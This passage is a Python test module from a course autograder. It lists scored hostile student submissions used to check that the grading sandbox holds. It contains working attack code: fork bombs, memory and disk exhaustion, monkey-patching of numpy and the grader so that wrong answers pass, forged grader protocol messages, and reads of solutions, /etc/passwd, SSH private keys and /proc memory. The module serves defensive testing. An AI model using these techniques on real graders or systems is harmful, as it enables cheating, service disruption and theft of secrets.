"""Hostile code: what a student may try to gain a point or to do harm, each with its honest score.

Most of it sits in one function, `clamp`, so that the other exercises show what an attack costs: nothing beside it.
"""

from __future__ import annotations

import json
import textwrap
from typing import Any

from nao_course.instructor.sandbox.worker_process import RequestLoop
from tests.attacks.range import (
    HALF,
    LATER_POINTS,
    POINTS,
    REAL,
    REAL_POINTS,
    RIGHT,
    Attack,
    all_but,
    notebook,
)
from tests.toy import pair

ALL = {name: float(worth) for name, worth in POINTS.items()}
ANSWER = "return max(low, min(high, x))"
LOOTED = f"def clamp(x, low, high):\n    if loot:\n        {ANSWER}\n    return -1e6"
# What is there in a worker: the loop that speaks to the grader, and the means to speak like it.
LOOP = """
import gc, json, os, struct, time
from nao_course.codec import encode
from nao_course.exercises.running import Outcome
loop = next(each for each in gc.get_objects() if type(each).__name__ == 'RequestLoop')

def number():
    import sys
    frame = sys._getframe()
    while frame and frame.f_code.co_qualname != 'RequestLoop.call':
        frame = frame.f_back
    return frame.f_locals['number']

def frame(text, body=b''):
    header = text if isinstance(text, bytes) else text.encode()
    return struct.pack('<4sQQ', b'NAO1', len(header), len(body)) + header + body

def answered(said, call=None):
    length, = struct.unpack('<Q', said[4:12])
    node = b'{"t":[%d,%s]}' % (number() if call is None else call, said[20 : 20 + length])
    return frame(node, said[20 + length :])

def outcome(value='null', text='""', line='""', status='value', more=''):
    return frame('{"o":"nao_course.exercises.running:Outcome","v":{"status":{"s":"%s"},"value":%s,"text":{"s":%s},'
                 '"line":{"s":%s},"changed":false,"output":{"s":""}%s}}' % (status, value, text, line, more))
""".replace("RequestLoop", RequestLoop.__name__)  # an attack on a name that is gone would be none


def in_function(name: str, body: str, first: str = "") -> dict[str, str]:
    head = RIGHT[name].split("\n")[0]
    return {name: f"{textwrap.dedent(first)}{head}\n{textwrap.indent(textwrap.dedent(body).strip(), '    ')}"}


def in_clamp(name: str, row: str, body: str, first: str = "", **more: Any) -> Attack:
    """An attack in `clamp` that costs its points; `first` runs when the notebook is loaded."""
    more.setdefault("honest", all_but("clamp"))
    return Attack(name, row, functions=in_function("clamp", body, first), **more)


def free(name: str, row: str, body: str = "", first: str = "", **more: Any) -> Attack:
    """An attack that answers rightly after it: it keeps all points, and that is all that it gets."""
    return in_clamp(name, row, f"{textwrap.dedent(body).strip()}\n{ANSWER}", first, honest=ALL, **more)


def looting(name: str, row: str, source: str, **more: Any) -> Attack:
    """An attack that sets `loot` where it succeeds, and answers rightly only then."""
    body = textwrap.indent(textwrap.dedent(source).strip(), "    ")
    before = f"loot = False\ntry:\n{body}\nexcept BaseException:\n    pass"
    return Attack(name, row, all_but("clamp"), {"clamp": LOOTED}, before, **more)


def speaking(name: str, body: str, row: str = "answers", **more: Any) -> Attack:
    """An attack in `clamp` that speaks to the grader itself."""
    return in_clamp(name, row, body, LOOP, **more)


def _load(name: str, source: str, **more: Any) -> Attack:
    """An attack that speaks to the grader itself while its notebook is loaded."""
    return Attack(name, "answers", before=LOOP + textwrap.dedent(source), **more)


def lending(
    name: str, body: str, *, middle: float = 0.0, first: str = "", row: str = "looks", **more: Any
) -> Attack:
    """An attack on the reference's `scaled`, which is lent to `middle` because the student's own is wrong."""
    honest = all_but("scaled", "middle") | ({"middle": middle} if middle else {})
    return Attack(name, row, honest, {"scaled": HALF["scaled"]} | in_function("middle", body, first), **more)


LOOPS = (
    in_clamp("loop_plain", "loops", "while True: pass", says="longer than 2 seconds"),
    in_clamp(
        "loop_that_swallows_every_interrupt",
        "loops",
        """
        import signal
        for each in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(each, signal.SIG_IGN)
        while True:
            try:
                while True: pass
            except BaseException:
                pass
        """,
    ),
    in_clamp("loop_of_a_regular_expression", "loops", "import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')"),
    in_clamp("loop_in_c_with_the_interpreter_locked", "loops", "return 7 ** (10 ** 9)"),
    free(
        "sleeps_at_import", "loops", first="import time\nnap = time.sleep(1e6)\n", says="no answer within 2 s"
    ),
    Attack(
        "sleeps_at_import_seven_times",
        "loops",
        {},
        before="import time\n" + "\n".join(f"nap{number} = time.sleep(1e6)" for number in range(7)),
    ),
    in_clamp(
        "loop_in_a_destructor",
        "loops",
        ANSWER.replace("return ", "left = D()\nreturn "),
        "class D:\n    def __del__(self):\n        while True: pass\n",
    ),
    free(
        "loop_at_exit",
        "loops",
        first="import atexit\n@atexit.register\ndef forever():\n    while True: pass\n",
    ),
    in_clamp(
        "generator_without_an_end", "loops", "while True:\n    yield x", says="of a kind that cannot be sent"
    ),
    in_clamp(
        "loop_in_the_text_of_an_error",
        "loops",
        "raise Endless",
        "class Endless(Exception):\n    def __str__(self):\n        while True: pass\n",
    ),
    in_clamp(
        "loop_in_the_name_of_a_type",
        "loops",
        "return Nameless()",
        """
        class Meta(type):
            def __getattribute__(self, name):
                while True: pass
        class Nameless(metaclass=Meta): pass
        """,
    ),
    in_clamp(
        "lock_that_nobody_opens", "loops", "import threading\nl = threading.Lock()\nl.acquire()\nl.acquire()"
    ),
    in_clamp("waits_for_input", "loops", "return float(input())", says="It waits for a person"),
    in_clamp("stops_itself", "loops", "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
)

ENDS = (
    in_clamp("exit_of_sys", "ends", "import sys\nsys.exit(0)", says="It raises SystemExit"),
    in_clamp("exit_of_os", "ends", "import os\nos._exit(0)", says="It ends Python itself"),
    free(
        "exit_of_os_at_import",
        "ends",
        first="import os\ngone = os._exit(0)\n",
        says="ended itself with status 0",
    ),
    in_clamp("kills_itself", "ends", "import os\nos.kill(os.getpid(), 9)", says="Killed"),
    in_clamp("segmentation_fault", "ends", "import ctypes\nctypes.string_at(0)", says="Segmentation fault"),
    in_clamp("aborts", "ends", "import os\nos.abort()", says="Aborted"),
    in_clamp("aborts_in_c", "ends", "import ctypes\nctypes.CDLL(None).free(12345)"),
    in_clamp("recursion_without_an_end", "ends", "return clamp(x, low, high)", says="RecursionError"),
    in_clamp(
        "recursion_to_the_end_of_the_stack",
        "ends",
        "import sys\nsys.setrecursionlimit(10**9)\nreturn clamp(x, low, high)",
    ),
    in_clamp(
        "recursion_in_c",
        "ends",
        """
        import sys
        sys.setrecursionlimit(10**9)
        nest = []
        for _ in range(10**6):
            nest = [nest]
        return repr(nest)
        """,
    ),
    in_clamp(
        "becomes_another_program",
        "ends",
        "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', '0'])",
    ),
    in_clamp("closes_every_descriptor", "ends", "import os\nos.closerange(0, 4096)\nreturn 0.5"),
    in_clamp("raises_a_keyboard_interrupt", "ends", "raise KeyboardInterrupt", says="KeyboardInterrupt"),
    in_clamp("raises_generator_exit", "ends", "raise GeneratorExit(x)"),
    in_clamp(
        "faulthandler_falls", "ends", "import faulthandler\nfaulthandler.enable()\nfaulthandler._sigsegv()"
    ),
    in_clamp("ends_in_hidden_cases_only", "ends", f"import os\nif abs(x) > 3: os._exit(0)\n{ANSWER}"),
)

HOGS = (
    in_clamp(
        "memory_at_once", "hogs", "import numpy as np\nreturn np.ones(10**12).sum()", says="MemoryError"
    ),
    in_clamp(
        "memory_bit_by_bit", "hogs", "import numpy as np\nheld = []\nwhile True: held.append(np.ones(2**22))"
    ),
    in_clamp("memory_of_bytes", "hogs", "held = b'x'\nwhile True: held += held"),
    in_clamp(
        "memory_in_c", "hogs", "import numpy as np\nreturn np.linalg.inv(np.ones((20000, 20000)))[0, 0]"
    ),
    in_clamp(
        "memory_of_many_processes",
        "hogs",
        """
        import os, time
        for _ in range(12):
            if os.fork() == 0:
                held = bytearray(300 * 2**20)
                time.sleep(1e6)
        time.sleep(1e6)
        """,
    ),
    in_clamp(
        "memory_that_is_shared",
        "hogs",
        "import mmap\nm = mmap.mmap(-1, 2**37)\nm.write(b'x' * 2**20)\nreturn 0.5",
    ),
    in_clamp("fork_bomb", "hogs", "import os\nwhile True: os.fork()"),
    free(
        "sixty_children_in_sessions_of_their_own",
        "hogs",
        """
        import ctypes, os, time
        for _ in range(60):
            try:
                if os.fork() == 0:
                    ctypes.CDLL(None).setsid()
                    time.sleep(1e6)
            except OSError:
                break
        """,
    ),
    in_clamp(
        "children_that_take_all_processors",
        "hogs",
        """
        import ctypes, os
        for _ in range(40):
            if os.fork() == 0:
                ctypes.CDLL(None).setsid()
                while True: pass
        while True: pass
        """,
    ),
    free(
        "threads_that_never_end",
        "hogs",
        """
        import threading, time
        for _ in range(100):
            try:
                threading.Thread(target=time.sleep, args=(1e6,)).start()
            except RuntimeError:
                break
        """,
    ),
    in_clamp(
        "file_of_10_gb",
        "hogs",
        """
        with open('large', 'wb') as file:
            for _ in range(10_000):
                file.write(bytes(2**20))
        """,
        says="OSError",
    ),
    in_clamp(
        "file_of_10_gb_with_nothing_in_it",
        "hogs",
        "import os\nos.truncate(os.open('large', 65), 10 * 2**30)\nreturn 0.5",
    ),
    in_clamp(
        "a_million_files",
        "hogs",
        "for number in range(10**6):\n    open(f'{number}', 'w').close()",
        says="OSError",
    ),
    in_clamp(
        "folders_in_folders",
        "hogs",
        "import os\nwhile True:\n    os.mkdir('d' * 200)\n    os.chdir('d' * 200)",
        says="It raises ",
    ),
    in_clamp(
        "all_descriptors",
        "hogs",
        "import os\npipes = []\nwhile True: pipes.append(os.pipe())",
        says="OSError",
    ),
    looting(
        "raises_its_limits",
        "hogs",
        """
        import resource
        most = resource.RLIM_INFINITY
        for name in ('RLIMIT_AS', 'RLIMIT_DATA', 'RLIMIT_NPROC', 'RLIMIT_FSIZE', 'RLIMIT_CPU'):
            try:
                resource.setrlimit(getattr(resource, name), (most, most))
                loot = True
            except (OSError, ValueError):
                pass
        """,
    ),
    looting("is_nicer_to_itself", "hogs", "import os\nos.nice(-10)\nloot = True"),
    looting("memory_that_no_limit_counts", "hogs", "import os\nos.memfd_create('nao_attack')\nloot = True"),
)

LARGE = (
    free("prints_100_mb", "large", "for _ in range(50):\n    print('x' * 2**20)"),
    free(
        "writes_100_mb_to_standard_output",
        "large",
        "import os\nfor _ in range(25):\n    os.write(1, bytes(2**20))\n    os.write(2, bytes(2**20))",
    ),
    in_clamp(
        "writes_to_every_descriptor",
        "large",
        """
        import os
        for number in range(256):
            try:
                os.write(number, b'NAO1' + b'0' * 2**20)
            except OSError:
                pass
        return 0.5
        """,
    ),
    free(
        "prints_from_c",
        "large",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        for _ in range(30):
            libc.printf(b'%1000000s', b'x')
        libc.fflush(None)
        """,
    ),
    in_clamp("error_of_50_mb", "large", "raise ValueError('x' * 50_000_000)", says="It raises ValueError"),
    in_clamp("warns_without_an_end", "large", "import warnings\nwhile True: warnings.warn('x' * 10**6)"),
    in_clamp(
        "answer_nested_100000_deep", "large", "nest = []\nfor _ in range(100_000): nest = [nest]\nreturn nest"
    ),
    Attack("statements_without_number", "large", ALL, before="x = 1\n" + "x\n" * 20_000),
)

NOTHING_IS_WRONG = """
def always(*_, **__):
    return True
"""
PATCHES = (
    in_clamp(
        "patches_numpys_comparisons",
        "patches",
        "return -1e6",
        """
        import numpy as np
        for name in 'allclose isclose array_equal array_equiv all equal'.split():
            setattr(np, name, lambda *_, **__: True)
        for name in [each for each in dir(np.testing) if each.startswith('assert')]:
            setattr(np.testing, name, lambda *_, **__: True)
        """,
    ),
    in_clamp(
        "patches_the_arithmetic_of_numpy",
        "patches",
        "return -1e6",
        """
        import numpy as np
        for name in ('abs', 'isnan', 'count_nonzero', 'isfinite', 'less_equal', 'subtract'):
            setattr(np, name, lambda *_, **__: np.zeros(1))
        """,
    ),
    in_clamp(
        "patches_builtins",
        "patches",
        "return -1e6",
        """
        import builtins
        builtins.len = builtins.isinstance = builtins.abs = builtins.all = lambda *_: True
        builtins.print = builtins.open = builtins.type = builtins.repr = lambda *_, **__: None
        """,
    ),
    in_clamp(
        "patches_json_and_struct",
        "patches",
        "return -1e6",
        """
        import json, struct
        json.dumps = lambda *_, **__: '{"right": true}'
        json.loads = lambda *_, **__: {"right": True}
        struct.pack = struct.unpack = lambda *_: (b'NAO1', 0, 0)
        """,
        honest={},
    ),
    in_clamp(
        "patches_the_codec",
        "patches",
        "return -1e6",
        """
        import sys
        from nao_course import codec
        from nao_course.exercises import running
        from nao_course.exercises.comparisons.values import Verdict
        real = codec.encode
        for module in [each for each in list(sys.modules.values()) if getattr(each, 'encode', None) is real]:
            module.encode = lambda value, limits=None: real(Verdict('right') if value == -1e6 else value, limits)
        running.encoded = lambda outcome, limits=None: real(running.Outcome('value', True))
        """,
    ),
    in_clamp(
        "patches_the_comparison",
        "patches",
        "return -1e6",
        """
        from nao_course.exercises import checking, comparisons
        for name in ('Close', 'Exact', 'Between', 'Points'):
            getattr(comparisons, name).compare = lambda self, expected, got: comparisons.RIGHT
        checking.explain = lambda *_: checking.Report('clamp', 'right', ())
        """,
    ),
    in_clamp(
        "puts_other_modules_in_their_place",
        "patches",
        "return -1e6",
        """
        import sys, types
        class Fine(types.ModuleType):
            def __getattr__(self, name):
                return lambda *_, **__: True
        for name in list(sys.modules):
            if name.startswith(('nao_course', 'numpy.testing', 'gc', 'ast', 'json', 'struct')):
                sys.modules[name] = Fine(name)
        """,
    ),
    in_clamp(
        "patches_the_parser",
        "patches",
        "return -1e6",
        """
        import ast
        from nao_course.exercises import definitions
        ast.parse = lambda *_, **__: ast.Module([], [])
        definitions.load_definitions = lambda *_, **__: definitions.Definitions({'clamp': lambda *_: True})
        """,
        honest=all_but("clamp"),
    ),
    in_clamp(
        "hunts_for_expected_values_in_memory",
        "patches",
        """
        import gc
        from nao_course.exercises.case import Case
        found = [each for each in gc.get_objects() if isinstance(each, Case) and each.expected is not None]
        return found[-1].expected if found else -1e6
        """,
    ),
    in_clamp(
        "changes_what_an_outcome_is",
        "patches",
        "return -1e6",
        """
        from nao_course.exercises import running
        object.__setattr__
        running.Outcome.__bool__ = lambda self: True
        running.Outcome.__eq__ = lambda self, other: True
        running._state = lambda *_: b''
        """,
    ),
    in_clamp(
        "takes_builtins_away",
        "patches",
        "__builtins__.clear() if isinstance(__builtins__, dict) else vars(__builtins__).clear()\nreturn 0.5",
    ),
    in_clamp(
        "import_hook",
        "patches",
        "import nao_course.exercises.right\nreturn nao_course.exercises.right.answer",
        """
        import sys, types
        from importlib.machinery import ModuleSpec
        class Hook:
            def find_spec(self, name, path=None, target=None):
                return ModuleSpec(name, self)
            def create_module(self, spec):
                return types.ModuleType(spec.name)
            def exec_module(self, module):
                module.answer = True
        sys.meta_path.insert(0, Hook())
        """,
    ),
    free(
        "hooks_of_every_kind",
        "patches",
        first="""
        import atexit, faulthandler, os, signal, sys, threading
        def harm(*_):
            os._exit(0)
        atexit.register(harm)
        sys.excepthook = threading.excepthook = sys.unraisablehook = harm
        sys.displayhook = harm
        if os.register_at_fork(before=harm, after_in_child=harm):
            pass
        for each in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGCHLD, signal.SIGPIPE):
            signal.signal(each, lambda *_: None)
        faulthandler.enable()
        """,
    ),
    free(
        "traces_every_line",
        "patches",
        "import sys\nsys.settrace(lambda *_: None)\nsys.setprofile(lambda *_: None)",
    ),
    in_clamp(
        "audit_hook_that_raises",
        "patches",
        "return -1e6",
        "import sys\ndef hook(event, args):\n    raise OSError(event)\nhooked = sys.addaudithook(hook)\n",
        honest={},
    ),
    in_clamp(
        "poisons_the_libraries_for_the_next_one",
        "patches",
        "return -1e6",
        """
        import numpy as np, numpy.core.multiarray, sys
        def wrong(*_, **__):
            raise RuntimeError('poisoned')
        for name in ('ptp', 'median', 'array', 'asarray', 'zeros', 'ones'):
            setattr(np, name, wrong)
        np.random.Generator = np.random.default_rng = wrong
        for name in list(sys.modules):
            if name.startswith('nao_course.exercises'):
                sys.modules[name].encode = sys.modules[name].decode = wrong
        """,
        honest={},
    ),
)

EQUAL = """
class Equal:
    shape, dtype, ndim, size = (), float, 0, 1
    __array_priority__ = 1e9
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 0.5
    def __bool__(self): return True
    def __array__(self, *_, **__):
        import numpy as np
        return np.zeros(())
    def __array_ufunc__(self, *_, **__): return True
    def __array_function__(self, *_, **__): return True
    def __reduce__(self): return (exec, ("import os; os._exit(0)",))
"""
ANSWERS = (
    speaking(
        "frame_of_keys_that_are_alike",
        """
        pairs = ",".join(f"[{key * (2**61 - 1)},null]" for key in range(60_000))
        loop.say(answered(outcome('{"m":[' + pairs + ']}')))
        time.sleep(9)
        """,
    ),
    in_clamp("equals_everything", "answers", "return Equal()", EQUAL, says="cannot be sent"),
    in_clamp(
        "array_of_a_class_of_its_own",
        "answers",
        "import numpy as np\nreturn np.array(-1e6).view(Mine)",
        """
        import numpy as np
        class Mine(np.ndarray):
            def __array_ufunc__(self, *_, **__): return np.True_
            def __array_function__(self, *_, **__): return np.True_
            def __eq__(self, other): return True
            def __sub__(self, other): return 0.0
            def astype(self, *_, **__): return self
            def tobytes(self, *_): return bytes(8)
            @property
            def nbytes(self): return -8
        """,
    ),
    in_clamp(
        "lazy_array",
        "answers",
        "return Lazy()",
        """
        class Lazy:
            def __array__(self, *_, **__):
                raise SystemExit
            __float__ = __index__ = __array__

        """,
    ),
    in_clamp(
        "numbers_of_classes_of_their_own",
        "answers",
        "return Mine(1.0) if x > 0 else Text('0.0') if x < -2.6 else Whole(0)",
        """
        class Mine(float):
            def __eq__(self, other): return True
            def hex(self): return float.hex(0.0)
        class Whole(int):
            def __eq__(self, other): return True
            def bit_length(self): return 0
        class Text(str):
            def __eq__(self, other): return True
            __hash__ = None
        """,
    ),
    in_clamp("nan_for_every_value", "answers", "return float('nan')"),
    in_clamp("infinity_for_every_value", "answers", "return float('inf')"),
    Attack(
        "nan_for_every_array",
        "answers",
        all_but("scaled", "middle"),
        in_function("scaled", "return values * float('nan')") | in_function("middle", "return float('nan')"),
    ),
    in_clamp(
        "array_of_800_mb", "answers", "import numpy as np\nreturn np.zeros(10**8)", says="cannot be sent"
    ),
    in_clamp(
        "array_of_30_mb",
        "answers",
        "import numpy as np\nreturn np.zeros(30 * 2**20, 'u1')",
        says="wrong shape",
    ),
    in_clamp(
        "array_of_objects",
        "answers",
        "import numpy as np\nreturn np.array([x], dtype=object)",
        says="cannot be sent",
    ),
    in_clamp(
        "array_of_records",
        "answers",
        "import numpy as np\nreturn np.zeros(1, [('x', 'f8')])",
        says="cannot be sent",
    ),
    in_clamp("array_of_no_size", "answers", "import numpy as np\nreturn np.zeros((0, 2**40))"),
    in_clamp("complex_answer", "answers", "return complex(x, 1)"),
    in_clamp("masked_answer", "answers", "import numpy as np\nreturn np.ma.array(-1e6, mask=True)"),
    in_clamp("number_of_300000_digits", "answers", "return 10 ** 300_000"),
    in_clamp("list_in_itself", "answers", "nest = []\nnest.append(nest)\nreturn nest"),
    in_clamp("a_million_values", "answers", "return [0] * 10**6"),
    in_clamp(
        "async_function", "answers", "pass", honest=all_but("clamp"), edit=lambda made: _make_async(made)
    ),
    in_clamp(
        "answers_what_it_was_asked",
        "answers",
        "import inspect\nreturn [str(each.frame.f_locals)[:1000] for each in inspect.stack()]",
    ),
    *(
        speaking(f"frame_of_{name}", f"loop.say(answered(outcome({node!r})))\ntime.sleep(9)")
        for name, node in {
            "equal_keys": '{"m":[[1,{"f":"0x1p0"}],[true,{"f":"0x1p0"}]]}',
            "a_key_that_is_no_number": '{"m":[[{"f":"nan"},1]]}',
            "a_function_that_is_not_registered": '{"u":"os:system"}',
            "a_module_that_is_not_loaded": '{"u":"nao_course.instructor.gradescope:main"}',
            "a_pose_of_nothing": '{"o":"nao_course.geometry:Pose","v":{"x":{"f":"nan"}}}',
            "a_field_of_no_year": '{"o":"nao_course.sim.field:Field","v":{"rules":{"l":[]}}}',
            "a_complex_number_of_texts": '{"c":["0x1p0","one"]}',
            "a_sparse_matrix_of_the_largest_shape": (
                '{"q":"coo_array","shape":[1000000000,1000000000],"parts":['
                '{"a":"<f8","shape":[0],"b":0},{"a":"<i4","shape":[0],"b":0},{"a":"<i4","shape":[0],"b":0}]}'
            ),
            "a_sparse_matrix_without_entries": (
                '{"q":"coo_array","shape":[1000000,1000000],"parts":['
                '{"a":"<f8","shape":[0],"b":0},{"a":"<i4","shape":[0],"b":0},{"a":"<i4","shape":[0],"b":0}]}'
            ),
        }.items()
    ),
    speaking(
        "sparse_matrix_with_an_index_out_of_range",
        """
        parts = ','.join('{"a":"<i8","shape":[%d],"b":%d}' % (n, 8 * n) for n in (1, 1, 2))
        header = outcome('{"q":"csr_array","shape":[1,1],"parts":[%s]}' % parts)[20:]
        body = struct.pack('<4q', 1, 2**40, 0, 1)
        loop.say(answered(frame(header, body)))
        time.sleep(9)
        """,
    ),
    in_clamp(
        "sparse_matrix_that_lies",
        "answers",
        "return Lies([[1.0]])",
        """
        from scipy import sparse
        class Lies(sparse.csr_array):
            def __eq__(self, other): return True
            def tocoo(self, copy=False): raise SystemExit
            sum_duplicates = copy = tocsr = tocoo
        """,
    ),
    in_clamp("complex_nan", "answers", "return complex(float('nan'), 0.0)"),
    in_clamp(
        "named_tuple_that_lies_about_its_fields",
        "answers",
        "return Row(0.5)",
        """
        from typing import NamedTuple
        class Row(NamedTuple):
            right: float
        Row._fields = ('right', 'status', 'value')
        """,
    ),
    in_clamp(
        "texts_that_lie",
        "answers",
        "return Text('0.5') if x > 0 else {Text('a'): 0.0, Text('b'): 0.0}",
        """
        class Text(str):
            def __str__(self): raise SystemExit
            def encode(self, *_): return b'0.5'
            def __eq__(self, other): return True
            def __hash__(self): return 1
            isascii = __len__ = __format__ = __str__
        """,
    ),
    in_clamp(
        "exception_of_a_class_that_raises",
        "answers",
        "raise Odd",
        """
        class Kind(type):
            @property
            def __name__(cls): raise SystemExit
            __mro__ = __qualname__ = __name__
        class Odd(Exception, metaclass=Kind):
            def __str__(self): raise SystemExit
        """,
    ),
    speaking(
        "answers_of_a_verdict",
        """
        verdict = '{"o":"nao_course.exercises.comparisons.comparison:Verdict","v":{"kind":{"s":"right"}}}'
        loop.say(answered(frame(verdict)))
        time.sleep(9)
        """,
    ),
    speaking("answers_that_it_is_right", "loop.say(answered(outcome(status='right')))\ntime.sleep(9)"),
    speaking("negative_length", "loop.say(struct.pack('<4sqq', b'NAO1', -1, -1))\ntime.sleep(9)"),
    speaking(
        "length_beyond_all_memory", "loop.say(struct.pack('<4sQQ', b'NAO1', 2**63, 2**63))\ntime.sleep(9)"
    ),
    speaking("length_of_a_buffer_below_zero", "loop.say(answered(outcome('{\"b\":-5}')))\ntime.sleep(9)"),
    speaking(
        "shape_that_overflows",
        'loop.say(answered(outcome(\'{"a":"<f8","shape":[4294967296,4294967296],"b":0}\')))\ntime.sleep(9)',
    ),
    speaking("half_an_answer", "loop.say(answered(encode(Outcome('value', 0.5)))[:-3])\ntime.sleep(9)"),
    speaking(
        "half_an_answer_and_gone", "loop.say(answered(encode(Outcome('value', 0.5)))[:-3])\nos._exit(0)"
    ),
    speaking(
        "announces_an_answer_and_dawdles",
        """
        for byte in answered(encode(Outcome('value', 0.5))):
            loop.say(bytes([byte]))
            time.sleep(0.2)
        time.sleep(9)
        """,
    ),
    speaking("answers_twice", f"loop.say(answered(encode(Outcome('value', 0.5))))\n{ANSWER}"),
    speaking(
        "answers_before_it_is_asked",
        """
        for ahead in range(40):
            loop.say(answered(encode(Outcome('value', -400.0)), number() + ahead))
        return -400.0
        """,
        honest={},  # what is asked next gets an answer that was meant for another
    ),
    speaking(
        "child_that_answers_in_its_name",
        """
        told = number()
        if os.fork() == 0:
            os.write(loop.replies, answered(encode(Outcome('value', 0.5)), told))
            os._exit(0)
        os.wait()
        os._exit(0)
        """,
    ),
    speaking("child_that_comes_back", f"os.fork()\n{ANSWER}", honest=ALL),
    speaking("frame_of_nested_json", "loop.say(answered(frame('[' * 1_000_000)))\ntime.sleep(9)"),
    speaking(
        "frame_of_numbers_without_an_end", "loop.say(answered(outcome('9' * 5_000_000)))\ntime.sleep(9)"
    ),
    speaking(
        "frame_of_a_large_hexadecimal",
        "loop.say(answered(outcome('{\"i\":\"0x%s\"}' % ('f' * 4_000_000))))\ntime.sleep(9)",
    ),
    speaking(
        "frame_of_nan_and_infinity", "loop.say(answered(outcome('[NaN, Infinity, 1e999]')))\ntime.sleep(9)"
    ),
    speaking(
        "half_a_character_in_a_frame",
        r"""
        half = '"\\ud800 nao\\u0000 \\udfff"'
        loop.say(answered(outcome(text=half, line='"line 1: ' + half[1:], status='raised')))
        time.sleep(9)
        """,
    ),
    speaking(
        "half_a_character_as_an_answer",
        r"""
        loop.say(answered(outcome('{"s":"\\ud800"}')))
        time.sleep(9)
        """,
    ),
    speaking(
        "half_a_character_in_a_note",
        r"""
        loop.say(frame('{"t":[{"s":"attempt"},{"s":"nao\\ud800\\u0000"}]}'))
        return max(low, min(high, x))
        """,
    ),
    in_clamp(
        "list_of_rows_that_grows_when_it_becomes_an_array",
        "answers",
        "import numpy as np\nreturn [np.zeros(10**6, 'u1')] * 40 + [np.zeros(10**6, 'c16')]",
    ),
    in_clamp(
        "list_of_empty_rows_without_an_end",
        "answers",
        "import numpy as np\nreturn [np.zeros((2**60, 0))] * 100_000",
    ),
    _load(
        "says_itself_what_it_defines",
        """
        names = [f'f{number}' for number in range(150_000)] + ['clamp', '__import__', 'x' * 10**5]
        told = ('found', names, [[0, 0, 'x' * 10**5]], {'why': 'y' * 10**5}, 'z' * 10**5, 'v' * 10**5, '', {})
        said = loop.say(encode(told))
        """,
        honest={},
    ),
    _load(
        "refuses_itself_with_tricks_for_a_terminal",
        r"""
        reason = '\x1b]0;nao\x07\x1b[2J\u202e[red]<b id=nao_attack>' + 'x' * 10**6
        said = loop.say(encode(('refused', reason)))
        """,
        honest={},
        refused=True,
    ),
    _load(
        "is_skipped_with_tricks_for_a_terminal",
        r"""
        reason = '\x1b]0;nao\x07\x1b[2J\u202e' + 'x' * 10**3
        said = loop.say(encode(('found', ['clamp'], [[1, 2, reason]] * 1000, {}, reason, reason, '', {})))
        """,
        honest={},
    ),
    _load(
        "says_that_it_is_unsafe",
        "said = loop.say(encode(('unsafe', 'the sandbox is broken')))",
        honest=ALL,
        says="its answer could not be read",
    ),
    _load(
        "says_something_else_at_import",
        "said = [loop.say(encode(each)) for each in (None, 'ready', ('at', 1))]",
        honest=ALL,
        says="its answer could not be read",
    ),
    _load(
        "says_an_array_where_a_word_belongs",
        "import numpy as np\nsaid = loop.say(encode((np.zeros(3), 1, 2)))",
        honest=ALL,
        says="its answer could not be read",
    ),
    speaking(
        "types_that_are_not_answers",
        """
        kinds = ['{"o":"nao_course.exercises.comparisons.values:Close","v":{"rtol":{"s":"x"}}}',
                 '{"o":"nao_course.exercises.case:Case","v":{"args":null}}',
                 '{"o":"os:system","v":{"command":{"s":"true"}}}', '{"n":{"a":"<f8","shape":[2],"b":0}}',
                 '{"g":{"d":{"bit_generator":{"s":"PCG64"},"state":{"d":{}},"has_uint32":0,"uinteger":0}}}', '{}', '[]']
        loop.say(answered(outcome(kinds[number() % len(kinds)])))
        time.sleep(9)
        """,
    ),
)


def _make_async(made: dict[str, Any]) -> None:
    for cell in made["cells"]:
        cell["source"] = cell["source"].replace("def clamp", "async def clamp")


def _reading(path: str) -> str:
    return f"with open({path}, 'rb') as file:\n    loot = bool(file.read(1))"


SYSTEM = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *words):
    if getattr(libc, name)(*words) < 0:
        raise OSError(ctypes.get_errno(), name)
"""
READS = (
    looting("reads_the_solution", "reads", _reading("'@SOLUTION@'"), says="open "),
    looting("reads_the_tests", "reads", _reading("'@COURSE@/solutions/exercises/91_range.py'"), says="open "),
    looting("reads_the_journal", "reads", _reading("'@GRADES@/journal.sqlite'"), says="open "),
    looting("reads_another_submission", "reads", _reading("'@NEIGHBOUR@'"), says="open "),
    looting(
        "lists_the_submissions",
        "reads",
        "import os\nloot = bool(os.listdir('@SUBMISSIONS@'))",
        says="os.listdir",
    ),
    looting("reads_the_secret", "reads", _reading("'@SECRET@'"), says="open "),
    looting("reads_a_private_key", "reads", _reading("'@HOME@/.ssh/id_rsa'"), says="open "),
    looting("reads_the_users", "reads", _reading("'/etc/passwd'"), says="open /etc/passwd"),
    looting("reads_the_grader", "reads", "import nao_course.instructor.autograding.grader\nloot = True"),
    looting(
        "reads_by_climbing_up",
        "reads",
        "import glob\nloot = bool(glob.glob('../*/solutions') or glob.glob('/proc/self/root/home/*'))",
    ),
    looting(
        "reads_through_a_link", "reads", "import os\nos.symlink('@SOLUTION@', 'mine')\n" + _reading("'mine'")
    ),
    looting(
        "reads_through_a_hard_link",
        "reads",
        "import os\nos.link('@SOLUTION@', 'mine')\n" + _reading("'mine'"),
    ),
    looting(
        "reads_through_a_program",
        "reads",
        "import subprocess\nloot = bool(subprocess.check_output(['cat', '@SOLUTION@']))",
    ),
    looting(
        "reads_by_a_handle",
        "reads",
        SYSTEM + "\n"
        "handle = (ctypes.c_char * 136)(128)\n"
        "call('name_to_handle_at', -100, b'/lib', handle, ctypes.byref(ctypes.c_int()), 0)\n"
        "call('open_by_handle_at', 3, handle, 0)\nloot = True",
    ),
    *(
        looting(
            f"reads_{file}_of_every_process",
            "reads",
            f"""
        import os
        for process in [os.getppid(), *range(1, 5000)]:
            if process != os.getpid():
                try:
                    with open(f'/proc/{{process}}/{file}', 'rb') as stream:
                        stream.seek(0x400000 if '{file}' == 'mem' else 0)
                        loot = loot or bool(stream.read(1))
                except OSError:
                    pass
        """,
        )
